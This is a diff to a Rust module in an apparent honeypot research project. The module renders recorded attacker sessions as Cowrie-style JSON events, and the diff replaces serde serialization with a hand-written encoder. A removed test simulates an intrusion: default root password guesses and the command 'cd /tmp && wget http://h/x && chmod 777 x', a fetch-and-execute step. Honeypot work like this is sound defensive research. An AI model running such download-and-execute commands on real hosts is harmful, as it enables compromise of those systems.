@@ -1,18 +1,18 @@
 //! Cowrie-style JSON event log.
 //!
 //! Cowrie emits one JSON object per event (`cowrie.session.connect`,
-//! `cowrie.login.success`, `cowrie.command.input`, …). Operators feed these
-//! into collectors; our farm's collector consumes [`SessionRecord`]s instead,
-//! but the live front-end and the examples still emit this familiar format so
-//! the honeypot is usable as a stand-alone tool with existing log tooling.
+//! `cowrie.login.success`, `cowrie.command.input`, …), and that log is the
+//! paper's raw data. The farm's collector consumes [`SessionRecord`]s
+//! directly, so nothing in the pipeline writes these lines; [`EventLog`]
+//! renders a record as the events Cowrie would have logged for it, the
+//! format an importer of real Cowrie logs would read.
 
+use hf_honeypot::SessionRecord;
+use hf_obs::json;
 use hf_simclock::SimInstant;
-use serde::{Deserialize, Serialize};
-
-use crate::record::SessionRecord;
 
 /// One JSON log event (a faithful subset of Cowrie's schema).
-#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[derive(Debug, Clone, PartialEq, Eq)]
 pub struct CowrieEvent {
     /// Event id, e.g. `cowrie.login.success`.
     pub eventid: String,
@@ -25,19 +25,14 @@ pub struct CowrieEvent {
     /// Free-form human message.
     pub message: String,
     /// Username for login events.
-    #[serde(skip_serializing_if = "Option::is_none")]
     pub username: Option<String>,
     /// Password for login events.
-    #[serde(skip_serializing_if = "Option::is_none")]
     pub password: Option<String>,
     /// Command line for command events.
-    #[serde(skip_serializing_if = "Option::is_none")]
     pub input: Option<String>,
     /// SHA-256 for file/download events.
-    #[serde(skip_serializing_if = "Option::is_none")]
     pub shasum: Option<String>,
     /// URL for download events.
-    #[serde(skip_serializing_if = "Option::is_none")]
     pub url: Option<String>,
 }
 
@@ -55,6 +50,28 @@ impl CowrieEvent {
             shasum: None,
             url: None,
         }
+    }
+
+    /// One compact JSON object, fields in declaration order; absent
+    /// optional fields are left out.
+    pub fn to_json(&self) -> String {
+        let fields = [
+            ("eventid", Some(&self.eventid)),
+            ("timestamp", Some(&self.timestamp)),
+            ("session", Some(&self.session)),
+            ("src_ip", Some(&self.src_ip)),
+            ("message", Some(&self.message)),
+            ("username", self.username.as_ref()),
+            ("password", self.password.as_ref()),
+            ("input", self.input.as_ref()),
+            ("shasum", self.shasum.as_ref()),
+            ("url", self.url.as_ref()),
+        ];
+        let body: Vec<String> = fields
+            .iter()
+            .filter_map(|&(k, v)| Some(format!("{}:{}", json::string(k), json::string(v?))))
+            .collect();
+        format!("{{{}}}", body.join(","))
     }
 }
 
@@ -167,82 +184,6 @@ impl EventLog {
             ),
         ));
 
-        events
-            .into_iter()
-            .map(|e| serde_json::to_string(&e).expect("event serializes"))
-            .collect()
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::config::HoneypotConfig;
-    use crate::session::SessionDriver;
-    use hf_geo::Ip4;
-    use hf_proto::creds::Credentials;
-    use hf_proto::Protocol;
-    use hf_shell::SyntheticFetcher;
-
-    fn sample_record() -> SessionRecord {
-        let mut d = SessionDriver::accept(
-            HoneypotConfig::default(),
-            7,
-            Protocol::Ssh,
-            Ip4::new(198, 51, 100, 3),
-            40000,
-            SimInstant::from_day_and_secs(2, 100),
-            Box::new(SyntheticFetcher),
-        );
-        d.client_banner("SSH-2.0-Go");
-        d.offer_credentials(Credentials::new("root", "root"), 1);
-        d.offer_credentials(Credentials::new("root", "1234"), 1);
-        d.run_command("cd /tmp && wget http://h/x && chmod 777 x", 2);
-        d.client_close();
-        d.into_record()
-    }
-
-    #[test]
-    fn event_stream_shape() {
-        let rec = sample_record();
-        let lines = EventLog::render(&rec);
-        let parsed: Vec<CowrieEvent> = lines
-            .iter()
-            .map(|l| serde_json::from_str(l).unwrap())
-            .collect();
-        assert_eq!(parsed.first().unwrap().eventid, "cowrie.session.connect");
-        assert_eq!(parsed.last().unwrap().eventid, "cowrie.session.closed");
-        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.failed"));
-        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.success"));
-        assert!(parsed.iter().any(|e| e.eventid == "cowrie.command.input"));
-        assert!(parsed
-            .iter()
-            .any(|e| e.eventid == "cowrie.session.file_download"));
-    }
-
-    #[test]
-    fn login_events_carry_credentials() {
-        let rec = sample_record();
-        let lines = EventLog::render(&rec);
-        let success: CowrieEvent = lines
-            .iter()
-            .map(|l| serde_json::from_str(l).unwrap())
-            .find(|e: &CowrieEvent| e.eventid == "cowrie.login.success")
-            .unwrap();
-        assert_eq!(success.username.as_deref(), Some("root"));
-        assert_eq!(success.password.as_deref(), Some("1234"));
-    }
-
-    #[test]
-    fn download_event_has_hash_and_url() {
-        let rec = sample_record();
-        let lines = EventLog::render(&rec);
-        let dl: CowrieEvent = lines
-            .iter()
-            .map(|l| serde_json::from_str(l).unwrap())
-            .find(|e: &CowrieEvent| e.eventid == "cowrie.session.file_download")
-            .unwrap();
-        assert!(dl.shasum.is_some());
-        assert_eq!(dl.url.as_deref(), Some("http://h/x"));
+        events.iter().map(CowrieEvent::to_json).collect()
     }
 }
